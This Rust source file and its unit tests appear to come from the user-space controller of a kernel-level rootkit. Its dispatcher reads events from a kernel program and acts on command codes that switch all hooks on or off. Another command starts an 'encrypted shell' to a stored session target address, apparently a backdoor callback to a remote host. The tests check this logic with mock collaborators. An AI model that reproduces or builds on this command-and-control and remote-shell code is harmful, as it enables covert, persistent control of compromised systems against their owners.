//! # Dispatch
//!
//! Classification of the events reported by the kernel program and execution
//! of the commands they carry.
//!
//! Errors are contained here: failures of a single event, or of the
//! collaborators it triggered, are reported but never stop the event stream.

use std::io::Write;

use log::{error, info, warn};
use thiserror::Error;
use time::OffsetDateTime;

use crate::{
    core::{channel::ChannelClient, maps::SessionTargetSource, modules::ModuleManager},
    events::*,
};

/// Per-event dispatch failures.
#[derive(Debug, Error, Eq, PartialEq)]
pub(crate) enum DispatchError {
    #[error("unknown command code {0}")]
    UnknownCommand(i32),
    #[error("unknown event category {0}")]
    UnknownCategory(u32),
}

/// Outcome of a successful dispatch.
#[derive(Debug, Eq, PartialEq)]
pub(crate) enum Dispatched {
    /// The event was formatted to the output.
    Printed,
    /// The event category is known but has no associated action.
    Ignored,
    /// The command was executed. Collaborator failures are logged, not
    /// reported here.
    Command(Command),
}

pub(crate) struct Dispatcher<M, C, T> {
    modules: M,
    client: C,
    targets: T,
    /// Where event lines are written.
    out: Box<dyn Write>,
}

impl<M, C, T> Dispatcher<M, C, T>
where
    M: ModuleManager,
    C: ChannelClient,
    T: SessionTargetSource,
{
    pub(crate) fn new(modules: M, client: C, targets: T, out: Box<dyn Write>) -> Self {
        Self {
            modules,
            client,
            targets,
            out,
        }
    }

    /// Dispatches a single event.
    pub(crate) fn dispatch(&mut self, event: &Event) -> Result<Dispatched, DispatchError> {
        match event.category {
            Category::Info => {
                self.print(event);
                Ok(Dispatched::Printed)
            }
            Category::Debug | Category::Error | Category::Exit => Ok(Dispatched::Ignored),
            Category::Command => {
                self.print(event);
                self.command(Command::from_code(event.code))
            }
            Category::Unknown(raw) => {
                error!(
                    "Unexpected event category {raw} (pid:{} code:{}, msg:{})",
                    event.pid, event.code, event.message
                );
                Err(DispatchError::UnknownCategory(raw))
            }
        }
    }

    fn command(&mut self, cmd: Command) -> Result<Dispatched, DispatchError> {
        match cmd {
            Command::EncryptedShell => self.encrypted_shell(),
            Command::HookActivateAll => {
                info!("Activating all hooks as requested");
                self.modules.activate_all_config();
                // Both steps are attempted, a stale hook failing to be
                // removed must not prevent installing the others.
                if let Err(e) = self.modules.unhook_all() {
                    warn!("Failed to complete command: unhook all ({e})");
                }
                if let Err(e) = self.modules.setup_all() {
                    warn!("Failed to complete command: setup modules ({e})");
                }
            }
            Command::HookDeactivateAll => {
                info!("Deactivating all hooks as requested");
                self.modules.deactivate_all_config();
                if let Err(e) = self.modules.unhook_all() {
                    warn!("Failed to complete command: unhook all ({e})");
                }
            }
            Command::Unknown(code) => {
                warn!("Command received unknown: {code}");
                return Err(DispatchError::UnknownCommand(code));
            }
        }

        Ok(Dispatched::Command(cmd))
    }

    fn encrypted_shell(&mut self) {
        let target = match self.targets.session_target() {
            Ok(Some(target)) if target.active => target,
            Ok(Some(_)) => {
                warn!("Encrypted connection requested but the session entry is not active");
                return;
            }
            Ok(None) => {
                warn!("Encrypted connection requested but no session entry was found");
                return;
            }
            Err(e) => {
                error!("Could not retrieve the session target: {e}");
                return;
            }
        };

        info!("Starting encrypted connection to {}", target.addr);
        if let Err(e) = self
            .client
            .run(&target.addr.ip().to_string(), target.addr.port())
        {
            warn!("Encrypted connection to {} failed: {e}", target.addr);
        }
    }

    fn print(&mut self, event: &Event) {
        let now = OffsetDateTime::now_local().unwrap_or_else(|_| OffsetDateTime::now_utc());
        let format = DisplayFormat::new().time(now.time());

        if let Err(e) = writeln!(self.out, "{}", event.display(&format)) {
            error!("Could not write event: {e}");
        };
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use std::{cell::RefCell, io, rc::Rc};

    use anyhow::{anyhow, bail, Result};

    use super::*;
    use crate::core::maps::SessionTarget;

    /// Collaborator calls, in order.
    #[derive(Clone, Default)]
    pub(crate) struct Calls(pub(crate) Rc<RefCell<Vec<String>>>);

    impl Calls {
        fn push(&self, call: &str) {
            self.0.borrow_mut().push(call.to_string());
        }

        pub(crate) fn get(&self) -> Vec<String> {
            self.0.borrow().clone()
        }
    }

    #[derive(Default)]
    pub(crate) struct MockModules {
        pub(crate) calls: Calls,
        pub(crate) fail_unhook: bool,
        pub(crate) fail_setup: bool,
    }

    impl ModuleManager for MockModules {
        fn activate_all_config(&mut self) {
            self.calls.push("activate");
        }

        fn deactivate_all_config(&mut self) {
            self.calls.push("deactivate");
        }

        fn setup_all(&mut self) -> Result<()> {
            self.calls.push("setup");
            match self.fail_setup {
                true => bail!("setup failed"),
                false => Ok(()),
            }
        }

        fn unhook_all(&mut self) -> Result<()> {
            self.calls.push("unhook");
            match self.fail_unhook {
                true => bail!("unhook failed"),
                false => Ok(()),
            }
        }
    }

    #[derive(Default)]
    pub(crate) struct MockClient {
        pub(crate) calls: Calls,
    }

    impl ChannelClient for MockClient {
        fn run(&mut self, host: &str, port: u16) -> Result<()> {
            self.calls.push(&format!("run {host}:{port}"));
            Ok(())
        }
    }

    pub(crate) enum MockTarget {
        Target(SessionTarget),
        Missing,
        Broken,
    }

    impl SessionTargetSource for MockTarget {
        fn session_target(&self) -> Result<Option<SessionTarget>> {
            match self {
                MockTarget::Target(target) => Ok(Some(*target)),
                MockTarget::Missing => Ok(None),
                MockTarget::Broken => Err(anyhow!("lookup failed")),
            }
        }
    }

    /// Output buffer shared with the test.
    #[derive(Clone, Default)]
    pub(crate) struct SharedBuf(pub(crate) Rc<RefCell<Vec<u8>>>);

    impl SharedBuf {
        pub(crate) fn lines(&self) -> Vec<String> {
            String::from_utf8_lossy(&self.0.borrow())
                .lines()
                .map(|l| l.to_string())
                .collect()
        }
    }

    impl io::Write for SharedBuf {
        fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
            self.0.borrow_mut().extend_from_slice(buf);
            Ok(buf.len())
        }

        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    pub(crate) type MockDispatcher = Dispatcher<MockModules, MockClient, MockTarget>;

    /// Builds a dispatcher whose collaborators all record into `calls`.
    pub(crate) fn dispatcher(calls: &Calls, out: &SharedBuf, target: MockTarget) -> MockDispatcher {
        Dispatcher::new(
            MockModules {
                calls: calls.clone(),
                ..Default::default()
            },
            MockClient {
                calls: calls.clone(),
            },
            target,
            Box::new(out.clone()),
        )
    }

    fn active_target() -> MockTarget {
        MockTarget::Target(SessionTarget {
            active: true,
            addr: "10.0.0.2:443".parse().unwrap(),
        })
    }

    fn command(code: i32) -> Event {
        Event::new(Category::Command, 100, code, "")
    }

    #[test]
    fn info_is_printed() {
        let (calls, out) = (Calls::default(), SharedBuf::default());
        let mut d = dispatcher(&calls, &out, active_target());

        assert_eq!(
            d.dispatch(&Event::new(Category::Info, 1, 0, "x")),
            Ok(Dispatched::Printed)
        );

        let lines = out.lines();
        assert_eq!(lines.len(), 1);
        // "HH:MM:SS " prefix.
        assert_eq!(lines[0].len(), 9 + "INFO  pid:1 code:0, msg:x".len());
        assert!(lines[0].ends_with(" INFO  pid:1 code:0, msg:x"));
        assert!(calls.get().is_empty());
    }

    #[test]
    fn non_command_isolation() {
        let (calls, out) = (Calls::default(), SharedBuf::default());
        let mut d = dispatcher(&calls, &out, active_target());

        for category in [Category::Debug, Category::Error, Category::Exit] {
            // Use command codes to make sure they are not interpreted.
            assert_eq!(
                d.dispatch(&Event::new(category, 1, Command::HookActivateAll.code(), "")),
                Ok(Dispatched::Ignored)
            );
        }
        d.dispatch(&Event::new(Category::Info, 1, 0, "")).unwrap();

        assert!(calls.get().is_empty());
        assert_eq!(out.lines().len(), 1);
    }

    #[test]
    fn unknown_command_isolation() {
        let (calls, out) = (Calls::default(), SharedBuf::default());
        let mut d = dispatcher(&calls, &out, active_target());

        assert_eq!(
            d.dispatch(&command(9999)),
            Err(DispatchError::UnknownCommand(9999))
        );
        assert!(calls.get().is_empty());
        // The command is still echoed.
        assert!(out.lines()[0].ends_with("COMMAND  pid:100 code:9999"));
    }

    #[test]
    fn unknown_category() {
        let (calls, out) = (Calls::default(), SharedBuf::default());
        let mut d = dispatcher(&calls, &out, active_target());

        assert_eq!(
            d.dispatch(&Event::new(Category::Unknown(42), 1, 1, "")),
            Err(DispatchError::UnknownCategory(42))
        );
        assert!(calls.get().is_empty());
        assert!(out.lines().is_empty());

        // The next record is still handled.
        assert!(d.dispatch(&Event::new(Category::Info, 1, 0, "")).is_ok());
    }

    #[test]
    fn activate_all_sequencing() {
        let (calls, out) = (Calls::default(), SharedBuf::default());
        let mut d = dispatcher(&calls, &out, active_target());

        assert_eq!(
            d.dispatch(&command(Command::HookActivateAll.code())),
            Ok(Dispatched::Command(Command::HookActivateAll))
        );
        assert_eq!(calls.get(), ["activate", "unhook", "setup"]);
    }

    #[test]
    fn activate_all_unhook_failure() {
        let (calls, out) = (Calls::default(), SharedBuf::default());
        let mut d = dispatcher(&calls, &out, active_target());
        d.modules.fail_unhook = true;
        d.modules.fail_setup = true;

        assert!(d.dispatch(&command(Command::HookActivateAll.code())).is_ok());
        assert_eq!(calls.get(), ["activate", "unhook", "setup"]);
    }

    #[test]
    fn deactivate_all() {
        let (calls, out) = (Calls::default(), SharedBuf::default());
        let mut d = dispatcher(&calls, &out, active_target());
        d.modules.fail_unhook = true;

        assert_eq!(
            d.dispatch(&command(Command::HookDeactivateAll.code())),
            Ok(Dispatched::Command(Command::HookDeactivateAll))
        );
        assert_eq!(calls.get(), ["deactivate", "unhook"]);
    }

    #[test]
    fn encrypted_shell_uses_session_target() {
        let (calls, out) = (Calls::default(), SharedBuf::default());
        let mut d = dispatcher(&calls, &out, active_target());

        assert_eq!(
            d.dispatch(&command(Command::EncryptedShell.code())),
            Ok(Dispatched::Command(Command::EncryptedShell))
        );
        assert_eq!(calls.get(), ["run 10.0.0.2:443"]);
    }

    #[test]
    fn encrypted_shell_without_target() {
        let inactive = MockTarget::Target(SessionTarget {
            active: false,
            addr: "10.0.0.2:443".parse().unwrap(),
        });

        for target in [inactive, MockTarget::Missing, MockTarget::Broken] {
            let (calls, out) = (Calls::default(), SharedBuf::default());
            let mut d = dispatcher(&calls, &out, target);

            assert!(d.dispatch(&command(Command::EncryptedShell.code())).is_ok());
            assert!(calls.get().is_empty());
        }
    }
}
